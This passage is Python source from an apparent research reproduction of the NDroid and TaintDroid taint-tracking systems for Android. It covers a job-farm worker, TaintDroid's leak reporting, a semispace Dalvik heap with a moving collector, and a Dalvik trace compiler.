        {
            "detector": record.detector,
            "sink": record.sink,
            "taint": record.taint,
            "destination": record.destination,
            "payload": record.payload.hex(),
            "context": record.context,
        }
        for record in platform.leaks.records
    ]


def _observe(platform, trace: bool) -> Dict:
    """Collect the per-job observability payload off a finished platform."""
    payload: Dict = {"leaks": _leak_rows(platform), "metrics": {}}
    observability = platform.observability
    if observability is not None:
        payload["metrics"] = observability.snapshot()
        payload["metrics_gauges"] = observability.metrics.gauge_keys()
        if trace and observability.ledger is not None:
            buffer = io.StringIO()
            observability.ledger.to_jsonl(buffer)
            payload["trace"] = [line for line in
                                buffer.getvalue().splitlines() if line]
            payload["trace_dropped"] = observability.ledger.dropped
    return payload


def _analyze_scenario(spec: JobSpec, ctx) -> Dict:
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario

    if spec.target not in ALL_SCENARIOS:
        raise ValueError(f"unknown scenario {spec.target!r}")
    scenario = ALL_SCENARIOS[spec.target]()
    platform = _boot_platform(spec, ctx)
    tracer = LIVE.get("tracer")
    if tracer is None:
        run_scenario(scenario, platform)
    else:
        with tracer.span("scenario_run", cat="worker", target=spec.target):
            run_scenario(scenario, platform)
    payload = _observe(platform, spec.trace)
    if scenario.expected_taint:
        detected = any(r["taint"] & scenario.expected_taint
                       for r in payload["leaks"])
    else:
        detected = bool(payload["leaks"])
    payload["detected"] = detected
    payload["expected_taint"] = scenario.expected_taint
    payload["expected_destination"] = scenario.expected_destination
    return payload


def _analyze_market(spec: JobSpec, ctx) -> Dict:
    from repro.apps.market import MARKET_APPS
    from repro.framework.monkey import MonkeyRunner

    if spec.target not in MARKET_APPS:
        raise ValueError(f"unknown market app {spec.target!r}")
    apk = MARKET_APPS[spec.target]()
    platform = _boot_platform(spec, ctx)
    tracer = LIVE.get("tracer")
    if tracer is None:
        platform.install(apk)
        session = MonkeyRunner(platform, seed=spec.seed).run(
            apk, events=spec.events)
    else:
        with tracer.span("scenario_run", cat="worker", target=spec.target):
            platform.install(apk)
            session = MonkeyRunner(platform, seed=spec.seed).run(
                apk, events=spec.events)
    payload = _observe(platform, spec.trace)
    payload["coverage"] = session.coverage
    payload["detected"] = bool(payload["leaks"])
    return payload


def _analyze_corpus_chunk(spec: JobSpec, ctx) -> Dict:
    """Classify one chunk of the synthetic Section III corpus.

    Pure static analysis: the worker rebuilds the addressable generator
    from ``(seed, scale)``, streams exactly ``[target, target+chunk)``
    — never the prefix — and folds the classification into counters.
    No platform is booted, so a 100k-record corpus costs no emulator
    state; the counts merge fleet-wide as plain summed metrics.
    """
    from repro.corpus.generator import CorpusGenerator
    from repro.corpus.study import classify

    generator = CorpusGenerator(seed=spec.seed, scale=spec.scale)
    start = int(spec.target)
    counts = {"corpus.records": 0, "corpus.type1": 0, "corpus.type2": 0,
              "corpus.type3": 0, "corpus.plain": 0,
              "corpus.type1_without_libs": 0, "corpus.type1_admob": 0,
              "corpus.type2_loadable": 0, "corpus.type3_games": 0}
    categories: Dict[str, int] = {}
    for record in generator.stream(start, start + spec.chunk):
        counts["corpus.records"] += 1
        kind = classify(record)
        if kind == "I":
            counts["corpus.type1"] += 1
            categories[record.category] = \
                categories.get(record.category, 0) + 1
            if not record.has_native_libraries():
                counts["corpus.type1_without_libs"] += 1
                if record.uses_admob_native_classes():
                    counts["corpus.type1_admob"] += 1
        elif kind == "II":
            counts["corpus.type2"] += 1
            if record.has_loadable_embedded_dex():
                counts["corpus.type2_loadable"] += 1
        elif kind == "III":
            counts["corpus.type3"] += 1
            if record.category == "Game":
                counts["corpus.type3_games"] += 1
        else:
            counts["corpus.plain"] += 1
    for name, count in categories.items():
        counts[f"corpus.category.{name}"] = count
    return {"metrics": counts, "leaks": [],
            "detected": counts["corpus.type1"] + counts["corpus.type2"] +
            counts["corpus.type3"] > 0}


_ANALYSES = {"scenario": _analyze_scenario, "market": _analyze_market,
             "corpus": _analyze_corpus_chunk}


def _emit_cache_counters(tracer) -> None:
    """Sample the three hot caches into the trace as counter records."""
    platform = LIVE.get("platform")
    if platform is None:
        return
    emu, jni, tbc = platform.emu, platform.jni, platform.vm.tbc
    tracer.counter("tb.hits", emu._tb_cache.hits, cat="engine")
    tracer.counter("tb.misses", emu._tb_cache.misses, cat="engine")
    tracer.counter("jni.trampoline.hits", jni.trampoline_hits, cat="engine")
    tracer.counter("jni.trampoline.misses", jni.trampoline_misses,
                   cat="engine")
    tracer.counter("jni.crossings_fast", jni.crossings_fast, cat="engine")
    tracer.counter("jni.crossings_slow", jni.crossings_slow, cat="engine")
    if tbc is not None:
        tracer.counter("tbc.hits", tbc.hits, cat="engine")
        tracer.counter("tbc.misses", tbc.misses, cat="engine")
    persistence = getattr(platform, "persistence", None)
    if persistence is not None:
        for name, value in persistence.counter_items():
            tracer.counter(name, value, cat="engine")


def execute_shard(spec_dicts, out_path: str,
                  budget: Optional[int] = DEFAULT_BUDGET,
                  progress=None) -> Dict:
    """Run a shard's jobs, spooling one result line per job to disk.

    The shard is the streaming farm's unit of commitment: results append
    to a temp JSONL file as they finish (one dict in memory at a time)
    and the whole file is fsync'd and renamed into place at the end —
    either the shard's results exist completely or the shard re-runs.
    Returns a small summary (never the results themselves).

    ``progress``, if given, is called with the running job count after
    every job — the heartbeat hook for long shards.
    """
    import json as json_module

    from repro.farm.store import fsync_directory

    temp = f"{out_path}.tmp.{os.getpid()}"
    outcomes: Dict[str, int] = {}
    jobs = 0
    with open(temp, "w") as handle:
        for spec_dict in spec_dicts:
            result = execute_job(spec_dict, budget=budget)
            handle.write(json_module.dumps(result) + "\n")
            status = result.get("status", "lost")
            outcomes[status] = outcomes.get(status, 0) + 1
            jobs += 1
            if progress is not None:
                progress(jobs)
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(temp, out_path)
    fsync_directory(os.path.dirname(out_path) or ".")
    return {"jobs": jobs, "outcomes": outcomes}


def execute_job(spec_dict: Dict, budget: Optional[int] = DEFAULT_BUDGET,
                tracer=None) -> Dict:
    """Run one farm job; always returns a result dict, never raises."""
    from repro.resilience import FaultPlan, Supervisor
    from repro.resilience.report import CrashReport

    spec = JobSpec.from_dict(spec_dict)
    plan = FaultPlan.parse(spec.faults) if spec.faults else None
    analyze = _ANALYSES[spec.kind]

    LIVE["platform"] = None
    LIVE["tracer"] = tracer
    job_span = None
    if tracer is not None:
        if not tracer.trace_id:
            tracer.trace_id = spec.digest()[:12]
        job_span = tracer.begin("job", cat="worker", id=spec.id,
                                kind=spec.kind, target=spec.target)

    def analysis(ctx):
        return analyze(spec, ctx)

    supervisor = Supervisor(budget=budget)
    start = time.perf_counter()
    try:
        result = supervisor.run(spec.id, analysis, plan=plan)
    except (KeyboardInterrupt, SystemExit):
        # Not this job's fault: the scheduler is draining (inline mode)
        # or the worker process is being told to die — let it unwind so
        # the job is journaled ``interrupted``, not mis-tombstoned.
        raise
    except BaseException as error:  # escaped the supervisor: tombstone it
        report = CrashReport.capture(label=spec.id, error=error)
        if tracer is not None:
            tracer.end(job_span, status="crashed")
            LIVE["platform"] = None
            LIVE["tracer"] = None
        return {
            "job": spec.to_dict(),
            "digest": spec.digest(),
            "status": "crashed",
            "attempts": 1,
            "degraded_events": 0,
            "quarantined_hooks": [],
            "injected_faults": [],
            "error": f"{type(error).__name__}: {error}",
            "tombstone": report.to_dict(),
            "elapsed_seconds": time.perf_counter() - start,
            "worker_pid": os.getpid(),
            "metrics": {},
            "leaks": [],
        }
    elapsed = time.perf_counter() - start

    # Commit this job's translation artifacts to the cross-job cache.
    # Best-effort by design: a failed flush costs future warm hits, never
    # the job's result.
    platform = LIVE.get("platform")
    if platform is not None and \
            getattr(platform, "persistence", None) is not None:
        try:
            platform.persist_translations()
        except Exception:
            pass

    payload = result.value if isinstance(result.value, dict) else {}
    row = {
        "job": spec.to_dict(),
        "digest": spec.digest(),
        "status": result.status,
        "attempts": result.attempts,
        "degraded_events": result.degraded_events,
        "quarantined_hooks": result.quarantined_hooks,
        "injected_faults": result.injected_faults,
        "error": result.error,
        "tombstone": (result.crash_report.to_dict()
                      if result.crash_report is not None else None),
        "elapsed_seconds": elapsed,
        "worker_pid": os.getpid(),
        "metrics": payload.get("metrics", {}),
        "leaks": payload.get("leaks", []),
    }
    for key in ("detected", "coverage", "expected_taint",
                "expected_destination", "trace", "trace_dropped",
                "metrics_gauges"):
        if key in payload:
            row[key] = payload[key]
    if tracer is not None:
        _emit_cache_counters(tracer)
        tracer.end(job_span, status=result.status)
        LIVE["platform"] = None
        LIVE["tracer"] = None
    return row
