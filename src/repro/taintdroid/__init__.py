"""The TaintDroid baseline (Enck et al., OSDI 2010), as the paper uses it.

TaintDroid modifies the application framework and the DVM: sources attach
taint labels, the interpreter propagates them per instruction, and
Java-context sinks check them.  In this reproduction those three pieces
live in the framework intrinsics, the Dalvik interpreter, and the sink
intrinsics respectively — attaching :class:`TaintDroid` switches them on.

What TaintDroid deliberately does **not** do — and what the paper's Table I
cases exploit — is track anything in the native context.  Its only JNI
rule is the call-bridge policy: the return value of a native method is
tainted iff any parameter was tainted (implemented in
``repro.jni.layer.JniLayer._impl_dvmCallJNIMethod``).
"""

from repro.taintdroid.system import TaintDroid

__all__ = ["TaintDroid"]
