"""TaintDroid attachment object."""

from __future__ import annotations

from repro.common.taint import TaintLabel, describe_taint
from repro.framework.leaks import LeakRecord


class TaintDroid:
    """Enables framework sources, DVM propagation and Java sinks."""

    def __init__(self, platform) -> None:
        self.platform = platform

    @classmethod
    def attach(cls, platform) -> "TaintDroid":
        system = cls(platform)
        platform.taintdroid = system
        # The modified DVM propagates taints per instruction.
        platform.vm.taint_tracking = True
        platform.event_log.emit("taintdroid", "attach",
                                "TaintDroid instrumentation enabled")
        return system

    def report_leak(self, sink: str, taint: TaintLabel, destination: str,
                    payload: bytes) -> None:
        self.platform.leaks.report(LeakRecord(
            detector="taintdroid", sink=sink, taint=taint,
            destination=destination, payload=payload, context="java"))
        self.platform.event_log.emit(
            "taintdroid", "leak",
            f"{sink} -> {destination} taint={describe_taint(taint)}",
            sink=sink, taint=taint, destination=destination)
