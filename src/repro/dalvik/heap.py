"""The DVM heap with a semispace (moving) garbage collector.

Objects live at real addresses in emulated memory: a word header plus, for
strings and arrays, their character/element data — so native code holding
a direct pointer can read actual bytes, and NDroid can "locate the newly
created object (i.e. StringObject or ArrayObject) before tainting it"
(Section V.B, Object Creation).

``collect`` copies live objects into the other semispace, exactly like
Android's moving collector: every direct pointer changes, the indirect
reference table is updated with new locations, and anything keyed by the
*old* direct pointer goes stale.  This is the behaviour that forces
NDroid's shadow memory for Java objects to be keyed by indirect reference
(Section V.B, JNI Exit) — and the test suite verifies a direct-pointer
scheme really does break.

Object memory layout::

    instance:  +0 class-id word                  (fields are JNI-mediated)
    string:    +0 class-id, +4 length, +8 UTF-8 bytes + NUL
    array:     +0 class-id, +4 length, +8 elements (4-byte words)
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Tuple

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.memory.memory import Memory

HEAP_SPACE_A = 0x4100_0000
HEAP_SPACE_B = 0x4180_0000
HEAP_SPACE_SIZE = 0x0040_0000

_HEADER_SIZE = 8  # class-id word + length word (length 0 for instances)

STRING_CLASS = "Ljava/lang/String;"


class Slot:
    """One field or array element: value + taint + reference flag."""

    __slots__ = ("value", "taint", "is_ref")

    def __init__(self, value: int = 0, taint: TaintLabel = TAINT_CLEAR,
                 is_ref: bool = False) -> None:
        self.value = value
        self.taint = taint
        self.is_ref = is_ref

    def __repr__(self) -> str:
        kind = "ref" if self.is_ref else "int"
        return f"Slot({kind} 0x{self.value:x}, t=0x{self.taint:x})"


class ObjectRecord:
    """Runtime metadata for one heap object."""

    __slots__ = ("address", "class_name", "kind", "fields", "elements",
                 "element_is_ref", "text", "taint", "forwarded_to")

    def __init__(self, address: int, class_name: str, kind: str) -> None:
        self.address = address
        self.class_name = class_name
        self.kind = kind  # "instance" | "string" | "array"
        self.fields: Dict[str, Slot] = {}
        self.elements: List[Slot] = []
        self.element_is_ref = False
        self.text: str = ""
        # TaintDroid keeps ONE taint label per ArrayObject/StringObject
        # (Section II, Taint Storage); instances carry per-field taints.
        self.taint: TaintLabel = TAINT_CLEAR
        self.forwarded_to: Optional[int] = None

    @property
    def is_string(self) -> bool:
        return self.kind == "string"

    @property
    def is_array(self) -> bool:
        return self.kind == "array"

    def data_address(self) -> int:
        """Address of the string bytes / array elements in guest memory."""
        return self.address + _HEADER_SIZE

    def byte_size(self) -> int:
        if self.kind == "string":
            return _HEADER_SIZE + len(self.text.encode("utf-8")) + 1
        if self.kind == "array":
            return _HEADER_SIZE + 4 * len(self.elements)
        return _HEADER_SIZE

    def __repr__(self) -> str:
        return (f"<{self.kind} {self.class_name} @0x{self.address:08x} "
                f"t=0x{self.taint:x}>")


class DvmHeap:
    """Semispace heap: object table + guest-memory backing."""

    def __init__(self, memory: Memory) -> None:
        self.memory = memory
        self._spaces = (HEAP_SPACE_A, HEAP_SPACE_B)
        self._active = 0
        self._bump = HEAP_SPACE_A
        self._objects: Dict[int, ObjectRecord] = {}
        self._class_ids: Dict[str, int] = {}
        self.gc_count = 0
        # Roots are provided by the VM at collection time.
        self._root_scanner: Optional[Callable[[], List[Slot]]] = None
        self._move_listeners: List[Callable[[int, int], None]] = []
        self._post_gc_hooks: List[Callable[[], None]] = []

    # -- configuration ---------------------------------------------------------

    def set_root_scanner(self, scanner: Callable[[], List[Slot]]) -> None:
        """Install the VM's root enumerator (frames, statics, IRT)."""
        self._root_scanner = scanner

    def add_move_listener(self, listener: Callable[[int, int], None]) -> None:
        """Notify ``listener(old_address, new_address)`` for each move."""
        self._move_listeners.append(listener)

    def add_post_gc_hook(self, hook: Callable[[], None]) -> None:
        """Run ``hook()`` after each collection (e.g. frame write-back)."""
        self._post_gc_hooks.append(hook)

    # -- allocation ----------------------------------------------------------------

    def _class_id(self, class_name: str) -> int:
        return self._class_ids.setdefault(class_name, len(self._class_ids) + 1)

    def _space_end(self) -> int:
        return self._spaces[self._active] + HEAP_SPACE_SIZE

    def _allocate_raw(self, size: int) -> int:
        aligned = (size + 7) & ~7
        if self._bump + aligned > self._space_end():
            self.collect()
            if self._bump + aligned > self._space_end():
                raise DalvikError("DVM heap exhausted")
        address = self._bump
        self._bump += aligned
        return address

    def _install(self, record: ObjectRecord) -> ObjectRecord:
        self._objects[record.address] = record
        self._write_header(record)
        return record

    def _write_header(self, record: ObjectRecord) -> None:
        self.memory.write_u32(record.address, self._class_id(record.class_name))
        length = (len(record.text) if record.is_string
                  else len(record.elements) if record.is_array else 0)
        self.memory.write_u32(record.address + 4, length)

    def alloc_object(self, class_name: str,
                     field_defs: Optional[Dict[str, "object"]] = None
                     ) -> ObjectRecord:
        """dvmAllocObject: a plain instance (Table III, MAF column)."""
        address = self._allocate_raw(_HEADER_SIZE)
        record = ObjectRecord(address, class_name, "instance")
        if field_defs:
            for name, definition in field_defs.items():
                record.fields[name] = Slot(
                    is_ref=getattr(definition, "is_reference", False))
        return self._install(record)

    def alloc_string(self, text: str,
                     taint: TaintLabel = TAINT_CLEAR) -> ObjectRecord:
        """dvmCreateStringFromUnicode/Cstr: a StringObject with real bytes."""
        data = text.encode("utf-8")
        address = self._allocate_raw(_HEADER_SIZE + len(data) + 1)
        record = ObjectRecord(address, STRING_CLASS, "string")
        record.text = text
        record.taint = taint
        self._install(record)
        self.memory.write_bytes(record.data_address(), data + b"\x00")
        return record

    def alloc_array(self, element_type: str, length: int) -> ObjectRecord:
        """dvmAllocArrayByClass / dvmAllocPrimitiveArray."""
        if length < 0:
            raise DalvikError("negative array size")
        address = self._allocate_raw(_HEADER_SIZE + 4 * length)
        record = ObjectRecord(address, f"[{element_type}", "array")
        record.elements = [Slot(is_ref=(element_type == "L"))
                           for __ in range(length)]
        record.element_is_ref = element_type == "L"
        return self._install(record)

    # -- lookup -----------------------------------------------------------------------

    def get(self, address: int) -> ObjectRecord:
        record = self._objects.get(address)
        if record is None:
            raise DalvikError(f"no object @ 0x{address:08x} (stale pointer?)")
        return record

    def maybe_get(self, address: int) -> Optional[ObjectRecord]:
        return self._objects.get(address)

    def contains(self, address: int) -> bool:
        return address in self._objects

    def sync_array_to_memory(self, record: ObjectRecord) -> None:
        """Mirror array element values into guest memory words."""
        for index, slot in enumerate(record.elements):
            self.memory.write_u32(record.data_address() + 4 * index,
                                  slot.value & 0xFFFF_FFFF)

    @property
    def live_objects(self) -> int:
        return len(self._objects)

    @property
    def bytes_allocated(self) -> int:
        return self._bump - self._spaces[self._active]

    # -- the moving collector ------------------------------------------------------------

    def collect(self) -> int:
        """Semispace copy; returns the number of live objects moved."""
        if self._root_scanner is None:
            raise DalvikError("GC requested but no root scanner installed")
        self.gc_count += 1
        target_space = self._spaces[1 - self._active]
        new_bump = target_space
        old_objects = self._objects
        new_objects: Dict[int, ObjectRecord] = {}
        moves: List[Tuple[int, int]] = []

        def forward(record: ObjectRecord) -> int:
            nonlocal new_bump
            if record.forwarded_to is not None:
                return record.forwarded_to
            size = (record.byte_size() + 7) & ~7
            new_address = new_bump
            new_bump += size
            old_address = record.address
            # Copy the raw bytes, then rebind the record.
            self.memory.copy(new_address, old_address, record.byte_size())
            record.forwarded_to = new_address
            record.address = new_address
            new_objects[new_address] = record
            moves.append((old_address, new_address))
            # Recurse into reference slots.
            for slot in record.fields.values():
                _forward_slot(slot)
            for slot in record.elements:
                _forward_slot(slot)
            if record.element_is_ref:
                self.sync_array_to_memory(record)
            return new_address

        def _forward_slot(slot: Slot) -> None:
            if slot.is_ref and slot.value:
                target = old_objects.get(slot.value) or \
                    new_objects.get(slot.value)
                if target is None:
                    raise DalvikError(
                        f"GC found dangling reference 0x{slot.value:08x}")
                slot.value = forward(target)

        for root in self._root_scanner():
            _forward_slot(root)

        # Unreached objects die; clear the old space so stale direct
        # pointers read zeros (catches use-after-move in tests).
        for record in old_objects.values():
            if record.forwarded_to is None:
                self.memory.fill(record.address,
                                 min(record.byte_size(), 64), 0)
        self._objects = new_objects
        for record in new_objects.values():
            record.forwarded_to = None
        self._active = 1 - self._active
        self._bump = new_bump
        for old_address, new_address in moves:
            for listener in self._move_listeners:
                listener(old_address, new_address)
        for hook in self._post_gc_hooks:
            hook()
        return len(moves)
