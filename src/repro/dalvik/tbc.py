"""Trace-compiled Dalvik superinstruction blocks.

The managed-side twin of the emulator's translation-block engine: the
first time execution reaches a method region, the straight-line bytecode
run starting there (up to the next branch, invoke, return or throw) is
compiled into a :class:`DalvikBlock` — a tuple of specialized Python
closures with every ``Ins`` field pre-resolved, every slot offset baked
relative to the frame pointer, and the guest-memory accessors pre-bound.
Subsequent executions replay the closures instead of re-decoding the
instruction stream through ``Interpreter._dispatch``.

Each block carries three variants, mirroring PR 5's clean/tainted TB
variants on the native side:

``untracked``
    ``vm.taint_tracking`` is off.  Taint tags are still *written* as
    clear wherever the single-step interpreter would write them (frames
    can inherit tainted argument slots even with tracking off), but no
    taint is ever read or propagated.

``clean``
    Tracking is on but the frame's sticky ``maybe_tainted`` flag is
    False, which guarantees every register taint word is zero (the flag
    is maintained centrally by :class:`~repro.dalvik.stack.Frame`).
    Register-to-register ops skip taint work entirely.  Ops that can
    *introduce* taint from outside the frame (heap fields, statics,
    arrays, invoke results, caught exceptions) check the incoming tag;
    on the first nonzero tag they perform the full tainted semantics,
    set ``frame.maybe_tainted``, and raise :class:`_TaintEntered` so the
    block finishes in the tainted variant — the mid-trace variant
    switch.

``tainted``
    Full TaintDroid Table-V propagation, including provenance-ledger
    edges identical to the single-step interpreter's.

The single-step interpreter remains the differential oracle: any VM
without a compiler (``vm.tbc is None``) or with a per-instruction
listener attached (the DroidScope comparator) runs the original loop,
and ``tests/dalvik/test_tbc_differential.py`` asserts slot/taint/ledger
parity between the two engines.

Cache invalidation: blocks key on the :class:`Method` *object*, so
re-registering a class (the only redefinition path the VM exposes)
flushes the compiler via :meth:`DalvikTraceCompiler.flush`.  Code must
not be mutated in place after first execution; redefine the method
instead.
"""

from __future__ import annotations

import time
from typing import Callable, Dict, List, Optional, Tuple

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CLEAR
from repro.dalvik.classes import Method
from repro.dalvik.heap import Slot
from repro.dalvik.instructions import (
    BINARY_OPS,
    COMPARE_OPS,
    COMPARE_Z_OPS,
    Ins,
    Op,
)
from repro.dalvik.interpreter import PendingException
from repro.observability.ledger import Loc

_M32 = 0xFFFF_FFFF
_SIGN = 0x8000_0000
_WRAP = 0x1_0000_0000

# Ops that terminate a straight-line trace.
_TERMINATOR_OPS = frozenset(
    {Op.RETURN_VOID, Op.RETURN, Op.RETURN_OBJECT, Op.GOTO, Op.THROW,
     Op.INVOKE_VIRTUAL, Op.INVOKE_DIRECT, Op.INVOKE_STATIC}
    | set(COMPARE_OPS) | set(COMPARE_Z_OPS))


class _TaintEntered(Exception):
    """Signal: a clean-variant op met its first nonzero taint tag.

    The raising op has already executed with full tainted semantics and
    set ``frame.maybe_tainted``; the block loop resumes at ``index + 1``
    in the tainted variant.
    """

    def __init__(self, index: int) -> None:
        self.index = index


class DalvikBlock:
    """One compiled straight-line run plus its terminator closures."""

    __slots__ = ("start", "count", "body_count", "untracked", "clean",
                 "tainted", "term_clean", "term_tainted")

    def __init__(self, start: int, untracked, clean, tainted,
                 term_clean, term_tainted) -> None:
        self.start = start
        self.untracked = untracked
        self.clean = clean
        self.tainted = tainted
        self.term_clean = term_clean
        self.term_tainted = term_tainted
        self.body_count = len(clean)
        self.count = self.body_count + 1   # + the terminator

    def execute(self, frame, interp, tracking: bool) -> Optional[Slot]:
        """Run the block; returns the method result Slot or None.

        On a normal exit the terminator has set ``frame.pc`` (branches,
        invokes) or produced the return Slot.  ``instructions_executed``
        accounting matches the single-step loop exactly, including the
        partial count when an op raises a catchable exception.
        """
        if not tracking:
            ops = self.untracked
            term = self.term_clean
        elif frame.maybe_tainted:
            ops = self.tainted
            term = self.term_tainted
        else:
            try:
                for op in self.clean:
                    op(frame)
            except _TaintEntered as entered:
                tbc = interp.vm.tbc
                if tbc is not None:
                    tbc.escalations += 1
                    tracer = tbc.span_tracer
                    if tracer is not None:
                        tracer.event("tbc_escalation", cat="engine",
                                     start=self.start, index=entered.index)
                tainted = self.tainted
                try:
                    for index in range(entered.index + 1, self.body_count):
                        tainted[index](frame)
                except PendingException:
                    interp.instructions_executed += \
                        frame.pc - self.start + 1
                    raise
                interp.instructions_executed += self.count
                return self.term_tainted(frame)
            except PendingException:
                interp.instructions_executed += frame.pc - self.start + 1
                raise
            interp.instructions_executed += self.count
            return self.term_clean(frame)
        try:
            for op in ops:
                op(frame)
        except PendingException:
            interp.instructions_executed += frame.pc - self.start + 1
            raise
        interp.instructions_executed += self.count
        return term(frame)


class DalvikTraceCompiler:
    """Compiles and caches :class:`DalvikBlock` objects per method."""

    def __init__(self, vm) -> None:
        self.vm = vm
        self._method_blocks: Dict[Method, Dict[int, DalvikBlock]] = {}
        self.blocks_compiled = 0
        self.flushes = 0
        # Cache introspection counters (observability).  ``hits`` is
        # bumped by the interpreter's dispatch loop on a block-map hit;
        # the rest are owned here.  Plain int adds — no tracer gating.
        self.hits = 0
        self.misses = 0
        self.invalidations = 0
        self.escalations = 0
        # Optional span tracer; emits only on the compile (miss) path.
        self.span_tracer = None
        # Optional cross-job persistence (emulator/persist.py, injected by
        # the platform).  Blocks are closures and never serialize; what
        # persists is the set of hot block *starts* per method-content
        # digest, so a warm process precompiles them on first touch
        # instead of discovering them one cold miss at a time.
        self.persistence = None
        self._persist_digests: Dict[Method, str] = {}

    # -- cache ------------------------------------------------------------

    def blocks_for(self, method: Method) -> Dict[int, DalvikBlock]:
        """The persistent per-method block map (cleared by flush)."""
        blocks = self._method_blocks.get(method)
        if blocks is None:
            blocks = {}
            self._method_blocks[method] = blocks
            if self.persistence is not None:
                self._rehydrate(method, blocks)
        return blocks

    def _rehydrate(self, method: Method, blocks: Dict[int, DalvikBlock]
                   ) -> None:
        """Precompile the persisted block starts for this method's digest.

        Keying by content digest — not name — is the aliasing guard: two
        apps shipping different bytecode under the same class/method name
        hash to different digests and can never share block starts.
        """
        persistence = self.persistence
        digest = persistence.method_digest(method)
        self._persist_digests[method] = digest
        starts = persistence.load_method_starts(digest)
        if not starts:
            persistence.miss("tbc")
            return
        started = time.perf_counter()
        compiled = 0
        for start in sorted(starts):
            if start in blocks:
                continue
            try:
                self.compile(method, start)
            except DalvikError:
                continue   # stale start (shorter method sharing a prefix)
            compiled += 1
        if compiled:
            persistence.hit("tbc", compiled)
            persistence.rebound("tbc", started)
        else:
            persistence.miss("tbc")

    def persist_blocks(self) -> int:
        """Record every compiled block start into the persistence tier."""
        persistence = self.persistence
        if persistence is None:
            return 0
        fresh = 0
        for method, blocks in self._method_blocks.items():
            if not blocks:
                continue
            digest = self._persist_digests.get(method)
            if digest is None:
                digest = persistence.method_digest(method)
            fresh += persistence.update_method_starts(digest, blocks.keys())
        return fresh

    def reset_counters(self) -> None:
        """Zero the per-job counters (warm-worker job boundary)."""
        self.blocks_compiled = 0
        self.flushes = 0
        self.hits = 0
        self.misses = 0
        self.invalidations = 0
        self.escalations = 0
        self._persist_digests.clear()

    def flush(self) -> None:
        """Drop every compiled block (class/method redefinition).

        The per-method dicts are cleared in place, not replaced: the
        interpreter's hot loop holds a direct reference to the dict, so
        an in-place clear invalidates blocks even mid-run.
        """
        for blocks in self._method_blocks.values():
            self.invalidations += len(blocks)
            blocks.clear()
        self.flushes += 1

    def invalidate_method(self, method: Method) -> None:
        blocks = self._method_blocks.get(method)
        if blocks is not None:
            self.invalidations += len(blocks)
            blocks.clear()

    @property
    def cached_blocks(self) -> int:
        return sum(len(blocks) for blocks in self._method_blocks.values())

    # -- compilation ------------------------------------------------------

    def compile(self, method: Method, start: int) -> DalvikBlock:
        self.misses += 1
        tracer = self.span_tracer
        span_start = tracer.now() if tracer is not None else 0.0
        code = method.code
        if start >= len(code):
            raise DalvikError(f"fell off the end of {method.full_name}")
        untracked: List[Callable] = []
        clean: List[Callable] = []
        tainted: List[Callable] = []
        pc = start
        while pc < len(code):
            ins = code[pc]
            if ins.op in _TERMINATOR_OPS:
                term_clean, term_tainted = self._compile_terminator(
                    method, ins, pc)
                break
            u, c, t = self._compile_op(method, ins, pc, len(clean))
            untracked.append(u)
            clean.append(c)
            tainted.append(t)
            pc += 1
        else:
            term_clean = term_tainted = self._compile_fell_off(method)
        block = DalvikBlock(start, tuple(untracked), tuple(clean),
                            tuple(tainted), term_clean, term_tainted)
        self.blocks_for(method)[start] = block
        self.blocks_compiled += 1
        if tracer is not None:
            tracer.complete("tbc_compile", span_start, cat="engine",
                            method=method.full_name, start=start,
                            ops=block.count)
        return block

    # -- op compilation ---------------------------------------------------

    def _bad_register(self, method: Method, register: int):
        def op(frame):
            raise DalvikError(
                f"register v{register} out of range in {method.full_name}")
        return op, op, op

    def _check_registers(self, method: Method, *registers: int
                         ) -> Optional[int]:
        for register in registers:
            if not 0 <= register < method.registers_size:
                return register
        return None

    def _compile_op(self, method: Method, ins: Ins, pc: int, index: int
                    ) -> Tuple[Callable, Callable, Callable]:
        """One body instruction -> (untracked, clean, tainted) closures."""
        vm = self.vm
        interp = vm.interpreter
        memory = vm.memory
        rd = memory.read_u32
        wr = memory.write_u32
        wr2 = memory.write_u32x2
        op = ins.op
        a, b, c = ins.a, ins.b, ins.c
        off_a, off_b, off_c = 8 * a, 8 * b, 8 * c
        toff_a, toff_b, toff_c = off_a + 4, off_b + 4, off_c + 4

        if op is Op.NOP:
            def nop(frame):
                return None
            return nop, nop, nop

        if op in (Op.MOVE, Op.MOVE_OBJECT):
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.MOVE_OBJECT

            def untracked(frame):
                fp = frame.fp
                wr2(fp + off_a, rd(fp + off_b), 0)
                frame.ref_flags[a] = is_ref

            def clean(frame):
                fp = frame.fp
                wr(fp + off_a, rd(fp + off_b))
                frame.ref_flags[a] = is_ref

            def tainted(frame):
                fp = frame.fp
                taint = rd(fp + toff_b)
                if taint:
                    ledger = vm.ledger
                    if ledger is not None:
                        ledger.record(taint, "dalvik:move",
                                      Loc.dvreg(fp + off_b),
                                      Loc.dvreg(fp + off_a))
                wr2(fp + off_a, rd(fp + off_b), taint)
                frame.ref_flags[a] = is_ref
            return untracked, clean, tainted

        if op in (Op.MOVE_RESULT, Op.MOVE_RESULT_OBJECT):
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.MOVE_RESULT_OBJECT

            def untracked(frame):
                wr2(frame.fp + off_a, vm.interp_save_state.value & _M32, 0)
                frame.ref_flags[a] = is_ref

            def clean(frame):
                result = vm.interp_save_state
                taint = result.taint
                if taint:
                    frame.maybe_tainted = True
                    ledger = vm.ledger
                    if ledger is not None:
                        ledger.record(taint, "dalvik:move-result",
                                      Loc.java(taint),
                                      Loc.dvreg(frame.fp + off_a))
                    wr2(frame.fp + off_a, result.value & _M32, taint)
                    frame.ref_flags[a] = is_ref
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, result.value & _M32)
                frame.ref_flags[a] = is_ref

            def tainted(frame):
                result = vm.interp_save_state
                taint = result.taint
                if taint:
                    ledger = vm.ledger
                    if ledger is not None:
                        ledger.record(taint, "dalvik:move-result",
                                      Loc.java(taint),
                                      Loc.dvreg(frame.fp + off_a))
                wr2(frame.fp + off_a, result.value & _M32, taint)
                frame.ref_flags[a] = is_ref
            return untracked, clean, tainted

        if op is Op.MOVE_EXCEPTION:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)

            def untracked(frame):
                pending = vm.caught_exception
